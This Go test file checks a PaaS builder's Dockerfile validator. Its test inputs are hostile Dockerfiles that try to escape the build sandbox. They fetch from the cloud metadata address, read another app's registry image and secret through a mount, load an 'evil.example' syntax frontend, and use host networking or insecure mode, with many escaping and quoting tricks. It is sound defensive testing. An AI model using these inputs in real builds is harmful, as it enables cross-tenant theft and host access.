package builder

import (
	"slices"
	"strings"
	"testing"

	"paas/cluster"
)

// rulesForTest know one registry, at 127.0.0.1:5555, and one cluster, c1.
func rulesForTest() dockerfileRules {
	b := &Builder{config: Config{Cluster: "c1"}, registry: &blobStore{endpoint: cluster.RegistryEndpoint{Address: "127.0.0.1:5555"}}}
	return dockerfileRules{file: "Dockerfile", ours: b.ours, modern: true}
}

func TestDockerfileMayNotReachTheHost(t *testing.T) {
	const from = "FROM busybox\n"
	for name, text := range map[string]string{
		"url":                    from + "ADD http://127.0.0.1:1/x /x\n",
		"https":                  from + "ADD https://example.com/x /x\n",
		"second source":          from + "ADD a http://169.254.169.254/ /x/\n",
		"case":                   "from busybox\nadd HTTP://127.0.0.1/x /x\n",
		"quotes":                 from + "ADD \"ht\"'tp'://127.0.0.1/x /x\n",
		"escape":                 from + "ADD h\\ttp://127.0.0.1/x /x\n",
		"other escape":           "# escape=`\n" + from + "ADD `\n  http://127.0.0.1/x /x\n",
		"continued":              from + "ADD \\\n# a comment\n\n  ht\\\ntp://127.0.0.1/x /x\n",
		"json":                   from + `ADD ["http://127.0.0.1/x", "/x"]` + "\n",
		"json escape":            from + `ADD ["\u0068ttp://127.0.0.1/x", "/x"]` + "\n",
		"flag":                   from + "ADD --chown=1 --checksum=sha256:00 http://127.0.0.1/x /x\n",
		"git":                    from + "ADD git@127.0.0.1:a/b.git /x\n",
		"git url":                from + "ADD git://127.0.0.1/b.git#main /x\n",
		"variable":               from + "ARG U=http://127.0.0.1/\nADD $U /x\n",
		"variable of the base":   from + "ADD $HOMEPAGE /x\n",
		"alternative":            from + "ADD ${PATH:+http://127.0.0.1/} /x\n",
		"part of a variable":     from + "ADD h${X}ttp://127.0.0.1/ /x\n",
		"trigger":                from + "ONBUILD ADD http://127.0.0.1/x /x\n",
		"registry":               "FROM 127.0.0.1:5555/apps/other:abc\n",
		"registry, other name":   "FROM localhost:5555/apps/other:abc\n",
		"registry by digest":     "FROM 127.0.0.1:5555/apps/other@sha256:" + strings.Repeat("a", 64) + "\n",
		"registry of an arg":     "ARG R=127.0.0.1\nARG I=$R:5555/apps/other\nFROM ${I}:abc\n",
		"registry of a default":  "FROM ${NONE:-127.0.0.1:5555/apps/other:abc}\n",
		"registry as a stage":    "FROM busybox AS x\nCOPY --from=127.0.0.1:5555/apps/other:abc / /\n",
		"registry in a mount":    from + "RUN --mount=type=bind,from=127.0.0.1:5555/apps/other:abc,target=/o cat /o/secret\n",
		"quoted mount":           from + `RUN --mount="type=bind","from=127.0.0.1:5555/apps/other:abc",target=/o cat /o/secret` + "\n",
		"trigger's source":       from + "ONBUILD COPY --from=127.0.0.1:5555/apps/other:abc / /\n",
		"source of a variable":   "ARG I=x\n" + from + "COPY --from=$I / /\n",
		"another's stages":       "FROM paas-c1/stages:other.1\n",
		"another's stages, long": "FROM docker.io/paas-c1/stages:other.1\n",
		"frontend":               "# syntax=evil.example/frontend\n" + from,
		"frontend, spelled":      "#   SyNtAx   =  evil.example/frontend:1 \n" + from,
		"frontend, second":       "# escape=\\\n# syntax=evil.example/frontend\n" + from,
		"frontend after shebang": "#!/usr/bin/x\n// syntax=evil.example/frontend\n" + from,
		"frontend in json":       `{"syntax": "evil.example/frontend"}`,
		"frontend's look-alike":  "# syntax=docker/dockerfile.evil.example/x\n" + from,
		"old frontend, heredoc":  "# syntax=docker/dockerfile:1.0\n" + from + "RUN <<CMD\nADD http://127.0.0.1/x /x\nCMD\n",
		"host network":           from + "RUN --network=host wget 127.0.0.1\n",
		"no sandbox":             from + "RUN --security=insecure mount\n",
		"other platform":         "FROM --platform=linux/s390x busybox\n",
	} {
		if _, err := rulesForTest().check([]byte(text)); cluster.KindOf(err) != cluster.KindBuildFailed {
			t.Errorf("%s: %v", name, err)
		}
	}
	old := rulesForTest()
	old.modern = false
	if _, err := old.check([]byte(from + "RUN <<CMD\nADD http://127.0.0.1/x /x\nCMD\n")); err == nil {
		t.Error("an engine without here-documents would fetch from a here-document's text")
	}
	if _, err := rulesForTest().checkTriggers("evil", []string{"RUN true", "ADD http://127.0.0.1/x /x"}); err == nil || !strings.Contains(err.Error(), "image evil") {
		t.Errorf("a base image's trigger: %v", err)
	}
	args := rulesForTest()
	args.args = map[string]string{"I": "127.0.0.1:5555/apps/other:abc"}
	if _, err := args.check([]byte("ARG I=busybox\nFROM $I\n")); err == nil {
		t.Error("a build argument may name another app's image")
	}
}

func TestDockerfileMayDoWhatBuildsDo(t *testing.T) {
	text := "# syntax=docker/dockerfile:1\n" + `
ARG NODE=20 TAG=slim
FROM --platform=$BUILDPLATFORM node:${NODE}-${TAG} AS build
ARG VERSION
RUN --mount=type=cache,target=/c --mount=type=bind,source=a,target=/a --network=none make
ADD vendor.tar.gz app-${VERSION}.tar.gz ./${VERSION}/x /src/
RUN <<END
add http://in.a.script/
END
FROM build AS test
FROM nginx:1
COPY --from=build /out /usr/share/nginx/html
COPY --from=0 /out2 /x
COPY --from=busybox:latest --chown=1 /bin/busybox /bin/
RUN --mount=from=alpine,target=/alpine ls /alpine
RUN curl -fsSLO https://example.com/x && echo $((1<<2))
FROM scratch
`
	use, err := rulesForTest().check([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"node:20-slim", "nginx:1"}; !slices.Equal(use.bases, want) {
		t.Errorf("bases: %q, want %q", use.bases, want)
	}
	if want := []string{"busybox:latest", "alpine"}; !slices.Equal(use.other, want) {
		t.Errorf("other images: %q, want %q", use.other, want)
	}
	host := rulesForTest()
	host.hostNetwork = true
	if _, err := host.check([]byte("FROM busybox\nADD https://example.com/x /x\n")); err != nil {
		t.Errorf("with the host's network: %v", err)
	}
}

// What passes names no URL in a word of ADD that could be one, and every base it
// uses was written in the text.
func FuzzCheckDockerfile(f *testing.F) {
	for _, s := range []string{
		"FROM busybox\nADD http://127.0.0.1/x /x\n", "# escape=`\nFROM a AS b\nADD `\n h /x\n", "FROM a\nRUN <<E\nADD http://x /\nE\n",
		"ARG U=http://x\nFROM a\nADD $U /\n", "# syntax=x\nFROM a\n", "FROM 127.0.0.1:5555/apps/x\n", "FROM a\nCOPY --from=b / /\n", "\xff\nFROM a",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		use, err := rulesForTest().check(text)
		if err != nil {
			return
		}
		for _, base := range use.bases {
			if strings.HasPrefix(base, "127.0.0.1:5555/") || strings.HasPrefix(base, "localhost:5555/") {
				t.Fatalf("%q: base %q is an app's image", text, base)
			}
		}
		for line := range strings.Lines(string(text)) {
			words := strings.Fields(strings.ToLower(line))
			if len(words) > 2 && words[0] == "add" && strings.HasPrefix(words[1], "http://") && !strings.Contains(string(text), "<<") && !strings.Contains(string(text), "\\") && !strings.Contains(string(text), "`") {
				t.Fatalf("%q: an ADD of a URL passed", text)
			}
		}
	})
}
